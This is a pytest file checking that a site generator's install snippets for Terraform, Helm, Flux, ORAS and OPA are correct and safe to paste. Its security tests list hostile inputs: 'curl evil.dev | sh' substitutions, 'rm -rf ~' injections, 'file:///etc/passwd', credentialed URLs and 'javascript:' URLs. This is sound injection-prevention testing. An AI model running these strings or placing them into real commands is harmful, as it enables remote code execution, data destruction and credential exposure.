"""Install snippets per registry type, and that whatever a document holds, a snippet is safe to paste."""

from __future__ import annotations

import shlex

import pytest
import yaml

from reconciler.keeper.state import ArtifactState, recorded_state
from sitegen.registry.snippets import Snippet, install_snippets
from tests.sitegen.builders import APPROVED, PENDING, registry_artifact, registry_repo

BASE = "https://portal.acme.dev/"
GIT = "{git: {repositoryUrl: https://github.com/acme/terraform-aws-vpc}}"
OCI = "{oci: {registryUrl: oci://ghcr.io, repository: acme/charts/ingress-nginx}}"
CHART = "      metadata:\n        helm: {chartUrl: 'https://charts.acme.dev/ingress-nginx-4.11.3.tgz'}\n"


def state_of(type_: str, storage: str, versions: str, spec: str = "") -> ArtifactState:
    repo = registry_repo({"a": registry_artifact("thing", type_, storage, versions, spec=spec)})
    return recorded_state(repo)["thing"]


def snippets(state: ArtifactState, version: str = "1.0.0", base_url: str = BASE) -> list[Snippet]:
    found = state.version(version)
    assert found is not None
    return install_snippets(state, found, base_url)


def by_title(found: list[Snippet]) -> dict[str, str]:
    return {s.title: s.code for s in found}


def test_terraform_module_and_provider_sources_name_this_registry() -> None:
    module = state_of("terraform-module", GIT, APPROVED.format(version="1.0.0"), spec="  provider: aws\n")
    assert snippets(module) == [
        Snippet(
            "Terraform / OpenTofu (from this registry)",
            "hcl",
            'module "thing" {\n  source  = "portal.acme.dev/networking/thing/aws"\n  version = "1.0.0"\n}\n',
        )
    ]
    # without the site's URL there is no registry host: the module's storage is the source
    assert by_title(snippets(module, base_url="")) == {
        "Terraform / OpenTofu (from its storage)": (
            'module "thing" {\n  source = "git::https://github.com/acme/terraform-aws-vpc?ref=v1.0.0"\n}\n'
        )
    }
    provider = state_of("terraform-provider", GIT, APPROVED.format(version="1.0.0"))
    assert by_title(snippets(provider))["Terraform / OpenTofu provider"] == (
        "terraform {\n  required_providers {\n    thing = {\n"
        '      source  = "portal.acme.dev/networking/thing"\n      version = "1.0.0"\n    }\n  }\n}\n'
    )


def test_a_chart_in_the_helm_index_installs_from_it_and_a_chart_only_in_oci_from_oci() -> None:
    listed = state_of("helm-chart", GIT, APPROVED.format(version="1.0.0") + CHART)
    found = by_title(snippets(listed))
    assert found["Helm"] == (
        "helm repo add networking https://portal.acme.dev/helm/networking\nhelm repo update networking\n"
        "helm install thing networking/thing --version 1.0.0\n"
    )
    release = list(yaml.safe_load_all(found["Flux HelmRepository and HelmRelease"]))
    assert release[0]["spec"]["url"] == "https://portal.acme.dev/helm/networking"
    assert release[1]["spec"]["chart"]["spec"] == {
        "chart": "thing",
        "version": "1.0.0",
        "sourceRef": {"kind": "HelmRepository", "name": "networking"},
    }
    oci = by_title(snippets(state_of("helm-chart", OCI, APPROVED.format(version="1.0.0"))))
    assert oci["Helm (OCI)"] == "helm install thing oci://ghcr.io/acme/charts/ingress-nginx --version 1.0.0\n"
    flux = list(yaml.safe_load_all(oci["Flux HelmRepository (OCI) and HelmRelease"]))
    assert flux[0]["spec"] == {"interval": "10m", "type": "oci", "url": "oci://ghcr.io/acme/charts"}


def test_oci_artifacts_and_opa_bundles() -> None:
    oci = "{oci: {registryUrl: ghcr.io, repository: acme/policies/pod-security}}"
    pinned = APPROVED.format(version="1.0.0") + "      storageRef: {ref: 'sha256:" + "a" * 64 + "'}\n"
    artifact = state_of("oci-artifact", oci, pinned)
    pinned_snippets = by_title(snippets(artifact))
    assert pinned_snippets["ORAS"] == f"oras pull ghcr.io/acme/policies/pod-security@sha256:{'a' * 64}\n"
    assert yaml.safe_load(pinned_snippets["Flux OCIRepository"])["spec"] == {
        "interval": "10m",
        "url": "oci://ghcr.io/acme/policies/pod-security",
        "ref": {"digest": f"sha256:{'a' * 64}"},
    }
    tagged = by_title(snippets(state_of("oci-artifact", oci, APPROVED.format(version="1.0.0"))))
    assert tagged["ORAS"] == "oras pull ghcr.io/acme/policies/pod-security:1.0.0\n"
    assert yaml.safe_load(tagged["Flux OCIRepository"])["spec"]["ref"] == {"tag": "1.0.0"}
    bundle = by_title(snippets(state_of("opa-bundle", oci, APPROVED.format(version="1.0.0"))))
    assert yaml.safe_load(bundle["OPA configuration (opa-config.yaml)"]) == {
        "services": {"registry": {"url": "https://ghcr.io", "type": "oci"}},
        "bundles": {"thing": {"service": "registry", "resource": "ghcr.io/acme/policies/pod-security:1.0.0"}},
    }
    assert bundle["OPA"] == "opa run --server --config-file opa-config.yaml\n"
    from_git = by_title(snippets(state_of("opa-bundle", GIT, APPROVED.format(version="1.0.0"))))
    assert from_git["OPA"] == (
        "git clone --depth 1 --branch v1.0.0 https://github.com/acme/terraform-aws-vpc thing\n"
        "opa run --server --bundle thing\n"
    )


def test_a_version_the_registry_does_not_serve_gets_no_snippet() -> None:
    state = state_of("oci-artifact", OCI, PENDING.format(version="1.0.0"))
    assert snippets(state) == []


HOSTILE_URLS = [
    "javascript:alert(1)",
    "https://x.dev/$(curl evil.dev|sh)",
    "https://x.dev/`id`",
    "https://x.dev/'; rm -rf ~; '",
    'https://x.dev/"; rm -rf ~; "',
    "https://x.dev/a\nrm -rf ~",
    "https://bob:hunter2@x.dev/repo",
    "file:///etc/passwd",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
@pytest.mark.parametrize("type_", ["terraform-module", "helm-chart", "opa-bundle", "oci-artifact"])
def test_a_hostile_storage_url_never_reaches_a_snippet(url: str, type_: str) -> None:
    quoted = yaml.safe_dump(url, default_style='"').strip()
    storages = [f"{{git: {{repositoryUrl: {quoted}}}}}", f"{{oci: {{registryUrl: {quoted}, repository: acme/x}}}}"]
    chart = f"      metadata:\n        helm: {{chartUrl: {quoted}}}\n" if type_ == "helm-chart" else ""
    spec = "  provider: aws\n" if type_ == "terraform-module" else ""
    for storage in storages:
        state = state_of(type_, storage, APPROVED.format(version="1.0.0") + chart, spec=spec)
        for base_url in (BASE, ""):
            for snippet in snippets(state, base_url=base_url):
                assert "hunter2" not in snippet.code
                assert "/etc/passwd" not in snippet.code
                assert "javascript:" not in snippet.code
                assert url not in snippet.code  # the hostile URL is left out whole, never quoted into a command


@pytest.mark.parametrize("base_url", ['https://evil.dev/"}; rm -rf ~; #', "https://evil.dev/a b", "javascript:x"])
def test_a_hostile_site_url_gives_no_registry_snippet(base_url: str) -> None:
    module = state_of("terraform-module", GIT, APPROVED.format(version="1.0.0"), spec="  provider: aws\n")
    assert [s.title for s in snippets(module, base_url=base_url)] == ["Terraform / OpenTofu (from its storage)"]
    chart = state_of("helm-chart", GIT, APPROVED.format(version="1.0.0") + CHART)
    assert snippets(chart, base_url=base_url) == []


def test_shell_syntax_in_the_site_url_stays_inside_one_quoted_word() -> None:
    chart = state_of("helm-chart", GIT, APPROVED.format(version="1.0.0") + CHART)
    helm = by_title(snippets(chart, base_url="https://evil.dev/$(id)"))["Helm"]
    assert shlex.split(helm.splitlines()[0]) == [
        "helm",
        "repo",
        "add",
        "networking",
        "https://evil.dev/$(id)/helm/networking",
    ]


def test_a_tag_with_shell_syntax_stays_one_quoted_word() -> None:
    tagged = APPROVED.format(version="1.0.0") + "      storageRef: {tag: 'v1; curl evil.dev | sh'}\n"
    found = by_title(snippets(state_of("opa-bundle", GIT, tagged)))
    clone = shlex.split(found["OPA"].splitlines()[0])
    assert clone[:5] == ["git", "clone", "--depth", "1", "--branch"]
    assert clone[5] == "v1; curl evil.dev | sh"
    assert len(clone) == 8
